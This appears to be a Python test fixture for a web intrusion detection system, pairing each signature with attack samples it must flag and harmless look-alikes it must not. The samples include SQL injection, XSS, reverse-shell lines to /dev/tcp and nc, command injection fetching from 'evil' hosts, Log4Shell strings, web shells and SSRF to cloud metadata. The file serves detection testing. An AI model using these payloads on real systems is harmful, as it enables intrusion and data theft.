"""For each attack that comes with srxnf: what it must find, and what looks like it and is none.

A sample is the part of the message that matters: a target, a form's text, a header's value.
"""

from urllib.parse import quote

from tests.services.idp.traffic import Stream, down, request, response, up


def uri(text: str) -> Stream:
    """In a query, escaped as a browser would."""
    return up(request(f"/search?q={quote(text, safe='')}"))


def target(text: str) -> Stream:
    """As a whole target, byte for byte."""
    return up(request(text))


def form(text: str) -> Stream:
    return up(
        request("/login", "POST", b"name=" + quote(text, safe="").encode(), content_type="application/x-www-form-urlencoded")
    )


def body(text: str | bytes, mime: str = "application/xml") -> Stream:
    data = text.encode() if isinstance(text, str) else text
    return up(request("/api", "POST", data, content_type=mime))


def agent(text: str) -> Stream:
    return up(request("/", user_agent=text))


def header(text: str) -> Stream:
    return up(request("/", x_api_version=text))


def cookie(text: str) -> Stream:
    return up(request("/", cookie=text))


def answer(text: str) -> Stream:
    return [*up(request("/")), *down(response(text.encode()))]


EICAR = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

SAMPLES: dict[str, tuple[tuple[Stream, ...], tuple[Stream, ...]]] = {
    "WEB:SQL:UNION-SELECT": (
        (
            uri("1' UNION SELECT null,version()-- "),
            uri("1 union/**/all/**/select 1,2,3"),
            form("-1 UnIoN(SeLeCt user from dual)"),
            cookie("id=1 union select name from users"),
            target("/item?id=1+union+select+password+from+users"),
        ),
        (
            uri("the european union selected a committee"),
            uri("student union select committee meeting"),
            target("/union/select"),
        ),
    ),
    "WEB:SQL:TAUTOLOGY": (
        (uri("x' or '1'='1"), uri("1') OR 1=1"), form('admin" or "a"="a'), uri("a' || 2>1"), cookie("session=a' or 1=1")),
        (uri("rock 'n' roll or 'blues'"), uri("Name eq 'Milk' and Price lt 3"), uri("it's 1 or 2")),
    ),
    "WEB:SQL:COMMENT": (
        (target("/login?user=admin'--"), target("/login?user=admin'%23"), target("/x?id=1')--%20-")),
        (target("/a?x=it's"), target("/a?q='quoted'-word"), target("/a--b?c=d")),
    ),
    "WEB:SQL:STACKED": (
        (uri("1; DROP TABLE users"), form("x';insert into users values(1)"), uri("1;exec master..x")),
        (uri("drop the table; please"), uri("insert; delete; update"), target("/a;b=1?drop=table")),
    ),
    "WEB:SQL:TIME-BLIND": (
        (uri("1' and sleep(5)"), uri("1;waitfor delay '0:0:5'"), form("1 or pg_sleep(10)"), uri("' and if(1=1,sleep(3),0)")),
        (target("/man/sleep(3)"), uri("how to sleep (8 hours)"), uri("benchmark (fast) results")),
    ),
    "WEB:SQL:CATALOGUE": (
        (uri("x from information_schema.tables"), form("1 join pg_catalog.pg_class"), uri("select 1 from sqlite_master")),
        (uri("what is information_schema"), uri("from the pg catalogue")),
    ),
    "WEB:SQL:FILE": (
        (uri("load_file('/etc/x')"), uri("1 into outfile '/var/www/a.php'"), form("a into dumpfile 'b'")),
        (uri("how does load_file work"), uri("turn text into outfiles")),
    ),
    "WEB:SQL:PROCEDURE": (
        (uri("exec xp_cmdshell 'dir'"), form("1;EXEC(master..xp_dirtree)"), uri("xp_regread('HKLM')")),
        (uri("disable xp_cmdshell on my server"), uri("exec summary")),
    ),
    "WEB:SQL:ERROR-BASED": (
        (
            uri("extractvalue(1,concat(0x7e,version()))"),
            form("updatexml(1,concat(0x7e,user()),1)"),
            uri("convert(int,@@version)"),
        ),
        (uri("convert(int, x)"), uri("extractvalue of a form")),
    ),
    "WEB:SQL:NOSQL-OPERATOR": (
        (target("/login?user[$ne]=1"), body('{"user": {"$gt": ""}}', "application/json"), target("/l?a%5B$regex%5D=.*")),
        (target("/price?currency=$ne"), body('{"cost": "$gt 5"}', "application/json")),
    ),
    "WEB:XSS:SCRIPT-ELEMENT": (
        (
            uri("<script>alert(1)</script>"),
            uri("<ScRiPt src=//x>"),
            agent("<script>1</script>"),
            target("/a?b=%253Cscript%253E"),
        ),
        (uri("<scripture>"), uri("script tags"), target("/script/a.js")),
    ),
    "WEB:XSS:EVENT-HANDLER": (
        (uri("<img src=x onerror=alert(1)>"), uri("<body onload=x()>"), uri('<a href="#"onmouseover=1>')),
        (uri("onload = ready"), uri("<b>one rror=1</b>"), uri("a < b, on error = stop")),
    ),
    "WEB:XSS:SCRIPT-ADDRESS": (
        (uri("<a href=javascript:1>"), uri('<form action="vbscript:x">'), uri("src=data:text/html,x")),
        (uri("learn javascript: a guide"), uri("href=/javascript")),
    ),
    "WEB:XSS:ACTIVE-ELEMENT": (
        (uri("<svg/onload=x>"), uri("<iframe src=//evil>"), uri("<meta http-equiv=refresh>")),
        (uri("<svg> element"), uri("iframe src")),
    ),
    "WEB:XSS:SCRIPT-CALL": (
        (uri("document.cookie"), uri("eval(atob('x'))"), uri("alert(document.domain)"), uri("prompt`1`")),
        (uri("alert (noun)"), uri("my document.pdf"), uri("evaluate(x)")),
    ),
    "WEB:TRAVERSAL:DOT-DOT": (
        (
            target("/../../secret"),
            target("/get?file=..%2f..%2f..%2fsecret"),
            target("/%2e%2e/%2e%2e/a"),
            target("/a?f=..\\..\\b"),
            target("/x/..;/..;/manager"),
        ),
        (target("/docs/../index.html"), target("/a..b/..c"), target("/wait...../more")),
    ),
    "WEB:TRAVERSAL:ETC-PASSWD": (
        (
            target("/?f=/etc/passwd"),
            target("/cgi/%2fetc%2fshadow"),
            body("file=/etc/passwd", "text/plain"),
            target("/?f=/etc//passwd"),
        ),
        (target("/etc/passwords-policy.html"), target("/fetch/passwd")),
    ),
    "WEB:TRAVERSAL:WINDOWS-FILE": (
        (target("/?f=c:\\windows\\system32\\x"), target("/?f=/boot.ini"), target("/winnt/system32/cmd.exe")),
        (target("/windows-system32-guide"), target("/twin.ini")),
    ),
    "WEB:TRAVERSAL:PROC-FILE": (
        (target("/?f=/proc/self/environ"), target("/?f=/proc/1/cmdline")),
        (target("/proc/self-help"), target("/process/1/status")),
    ),
    "WEB:TRAVERSAL:ESCAPED-TWICE": (
        (target("/%252e%252e/x"), target("/a?b=%252fetc")),
        (target("/100%25off"), target("/a%2520b")),
    ),
    "WEB:TRAVERSAL:OVERLONG": (
        (target("/..%c0%af..%c0%af"), target("/%u002e/x"), target("/%C0%AE/")),
        (target("/caf%c3%a9"), target("/%e2%82%ac")),
    ),
    "WEB:TRAVERSAL:ZERO-BYTE": ((target("/a.php%00.jpg"),), (target("/a%20%20b"), target("/price%3D%300"))),
    "WEB:TRAVERSAL:SECRET-FILE": (
        (target("/.git/config"), target("/app/.env"), target("/.ssh/id_rsa"), target("/.ENV?x=1")),
        (target("/environment"), target("/a.git/info"), target("/docs/.envelope")),
    ),
    "WEB:TRAVERSAL:BACKUP-FILE": (
        (target("/wp-config.php.bak"), target("/config.yml~"), target("/settings.json.old")),
        (target("/config.php"), target("/backup/config.bak.html")),
    ),
    "WEB:COMMAND:SEPARATOR": (
        (uri("1;cat /etc/motd"), uri("x|id"), form("a && wget http://evil/x"), uri("a\nls -la"), uri("x;/bin/bash -c y")),
        (uri("dogs; cats and birds"), uri("a | b | identity"), form("read this; more is better"), uri("ping me; thanks")),
    ),
    "WEB:COMMAND:SUBSTITUTION": (
        (uri("$(whoami)"), uri("`id`"), form("$(curl evil.test)"), agent("$(sleep 5)")),
        (uri("costs $(20)"), uri("the `identity` function"), uri("$(idea)")),
    ),
    "WEB:COMMAND:REVERSE-SHELL": (
        (uri("bash -i >& /dev/tcp/10.0.0.1/4444"), form("mkfifo /tmp/f"), uri("nc -e /bin/sh 1.2.3.4")),
        (uri("/dev/tcp guide"), uri("bash -installation"), uri("nc -electronics")),
    ),
    "WEB:COMMAND:POWERSHELL": (
        (uri("powershell -enc SQBFAFgA"), form("IEX (New-Object Net.WebClient)"), uri("powershell.exe -w hidden")),
        (uri("powershell encoding"), uri("power shell -enclosure")),
    ),
    "WEB:COMMAND:SHELLSHOCK": (
        (header("() { :;}; /bin/id"), agent("() { x;}; echo"), cookie("a=() { :; }; ping")),
        (header("function () { return 1 }"), header("() => { }")),
    ),
    "WEB:CODE:LOG4SHELL": (
        (
            uri("${jndi:ldap://evil/a}"),
            agent("${jndi:rmi://x}"),
            header("${${lower:j}ndi:ldap://x}"),
            cookie("x=${${::-j}ndi:dns://y}"),
            body("${JNDI:LDAP://x}", "text/plain"),
        ),
        (uri("${name}"), header("${user.jndi}"), uri("jndi:ldap is a scheme")),
    ),
    "WEB:CODE:SPRING4SHELL": (
        (target("/a?class.module.classLoader.x=1"), form("class.module.classLoader.resources")),
        (target("/a?class.module=1"), target("/classmodule/classLoader")),
    ),
    "WEB:CODE:OGNL": (
        (uri("%{(#_memberAccess=1)}"), up(request("/", content_type="%{(#context['x'])}")), body("${#cmd='id'}", "text/plain")),
        (uri("%{name}"), uri("100%{#}")),
    ),
    "WEB:CODE:TEMPLATE": (
        (uri("{{7*7}}"), form("{{config}}"), uri("${7*7}"), uri("{{''.__class__.__mro__}}"), uri("<%= 7*7 %>")),
        (uri("{{ name }}"), uri("{{configuration of mine}}"), uri("${price}")),
    ),
    "WEB:CODE:JAVA-RUNTIME": (
        (uri("T(java.lang.Runtime)"), form("getRuntime().exec('id')"), uri("freemarker.template.utility.Execute")),
        (uri("java.lang.String"), uri("the Java runtime")),
    ),
    "WEB:CODE:JAVA-OBJECT": (
        (body(b"\xac\xed\x00\x05sr\x00", "application/octet-stream"), cookie("s=rO0ABXNyABFq")),
        (body(b"x\xac\xed\x00\x05", "application/octet-stream"), cookie("s=ArO0ABXNy")),
    ),
    "WEB:CODE:PHP-OBJECT": ((uri('O:8:"stdClass":1:{'), cookie('x=O:4:"Evil":2:{')), (uri('NO:8:"x"'), uri('O:8: "a"'))),
    "WEB:CODE:PHP": (
        (uri("<?php system('id');"), uri("eval($_POST['x'])"), agent("<?php x")),
        (uri("php system"), uri("<?phpinfo"), uri("eval(x)")),
    ),
    "WEB:CODE:PHPUNIT": (
        (target("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),),
        (target("/phpunit/src/eval-stdin"),),
    ),
    "WEB:CODE:PROTOTYPE": (
        (
            target("/a?__proto__[x]=1"),
            body('{"__proto__": {"x": 1}}', "application/json"),
            target("/?constructor[prototype][x]=1"),
        ),
        (target("/a?proto=1"), body('{"constructor": "x"}', "application/json")),
    ),
    "WEB:SSRF:METADATA": (
        (
            target("/fetch?url=http://169.254.169.254/latest/"),
            form("http://metadata.google.internal/x"),
            target("/f?u=169.254.169.254"),
        ),
        (target("/f?u=http://169.254.169.25"), uri("what is metadata.google.internal.example")),
    ),
    "WEB:SSRF:SCHEME": (
        (target("/f?u=gopher://127.0.0.1:6379/"), target("/f?u=file:///x"), target("/f?u=dict://x")),
        (target("/f?u=https://gopher.example"), target("/f?q=gopher")),
    ),
    "WEB:SSRF:PHP-WRAPPER": (
        (
            target("/i.php?p=php://filter/convert.base64-encode/resource=x"),
            target("/?p=phar://x"),
            target("/?p=data:text/plain;base64,eA"),
        ),
        (target("/?p=php"), target("/?q=expect: 5")),
    ),
    "WEB:SSRF:REMOTE-FILE": (
        (target("/i.php?page=http://evil.test/shell.txt?"), target("/i.php?a=1&page=https://evil.test/x.php??")),
        (target("/go?to=http://ok.test/a.txt"), target("/go?to=http://ok.test/?x")),
    ),
    "WEB:XML:EXTERNAL-ENTITY": (
        (body('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]>'), body("<!ENTITY % p PUBLIC 'a' 'b'>")),
        (body('<!DOCTYPE html SYSTEM "about:legacy-compat">'), body("<!ENTITY copy '(c)'>")),
    ),
    "WEB:XML:ENTITY-BOMB": ((body('<!ENTITY b "&a;&a;&a;&a;&a;&a;">'),), (body('<!ENTITY b "&lt;b&gt;">'),)),
    "WEB:INJECTION:LDAP": ((uri("*)(uid=*"), uri("x*)(|(a=b")), (uri("f(x)*(y)"), uri("*) note"))),
    "WEB:INJECTION:XPATH": (
        (uri("' or count(//user)>0"), uri("'] [string-length(parent::x)")),
        (uri("'a' or count (them)"), uri("' and name (x)")),
    ),
    "WEB:INJECTION:HEADER": (
        (target("/a?x=1%0d%0aSet-Cookie:%20a=b"), target("/a%0aLocation:%20x")),
        (target("/a?text=one%0d%0atwo"),),
    ),
    "WEB:INJECTION:TOKEN-NONE": (
        (up(request("/", authorization="Bearer eyJhbGciOiJub25lIn0.e30.")), cookie("t=eyJhbGciOiJub25lIn0.e30.")),
        (up(request("/", authorization="Bearer eyJhbGciOiJIUzI1NiJ9.e30.x")),),
    ),
    "WEB:UPLOAD:SCRIPT": (
        (
            body(
                '--b\r\nContent-Disposition: form-data; name="f"; filename="x.php"\r\n\r\nhi\r\n--b--',
                "multipart/form-data; boundary=b",
            ),
            body('filename="a.php5.jpg"\r\n', "text/plain"),
        ),
        (body('filename="a.jpg"\r\n', "text/plain"), body('filename="php.txt"\r\n', "text/plain")),
    ),
    "WEB:UPLOAD:WEB-SHELL": (
        (
            body("<?php @eval($_POST['x']);", "text/plain"),
            body('<% eval(Request("x")) %>', "text/plain"),
            body("assert(@base64_decode('x'))", "text/plain"),
        ),
        (body("eval(x)", "text/plain"), body("the system ($5)", "text/plain")),
    ),
    "WEB:SCANNER:SQLMAP": ((agent("sqlmap/1.7#stable"),), (agent("mysqlmap"),)),
    "WEB:SCANNER:NIKTO": ((agent("Mozilla/5.00 (Nikto/2.1.6)"),), (agent("Nikto"),)),
    "WEB:SCANNER:PORT-SCANNER": (
        (agent("Mozilla/5.0 (compatible; Nmap Scripting Engine)"), agent("masscan/1.3")),
        (agent("Nmapper"),),
    ),
    "WEB:SCANNER:DIRECTORIES": ((agent("gobuster/3.5"), agent("Fuzz Faster U Fool v2")), (agent("my gobuster/3"),)),
    "WEB:SCANNER:VULNERABILITIES": ((agent("Nuclei - Open-source project"), agent("WPScan v3.8")), (agent("Nucleic acid"),)),
    "WEB:SCANNER:METHOD": ((up(request("/", "TRACE")),), (up(request("/", "GET")), up(request("/", "PUT")))),
    "WEB:CONTENT:EICAR": ((answer(EICAR), answer("x" * 5000 + EICAR)), (answer(EICAR[:-5]),)),
    "WEB:CONTENT:SQL-ERROR": (
        (answer("You have an error in your SQL syntax; check"), answer("ORA-00933: SQL command")),
        (answer("ORA-00933"),),
    ),
    "WEB:CONTENT:DIRECTORY": ((answer("<title>Index of /pub</title>"),), (answer("<title>Index of contents</title>"),)),
    "WEB:PROTOCOL:SMUGGLING": (
        (up(b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),),
        (uri("smuggling"),),
    ),
    "WEB:PROTOCOL:MALFORMED": ((up(b"GET /\x01 HTTP/1.1\r\nHost: a\r\n\r\n"),), (uri("malformed"),)),
}
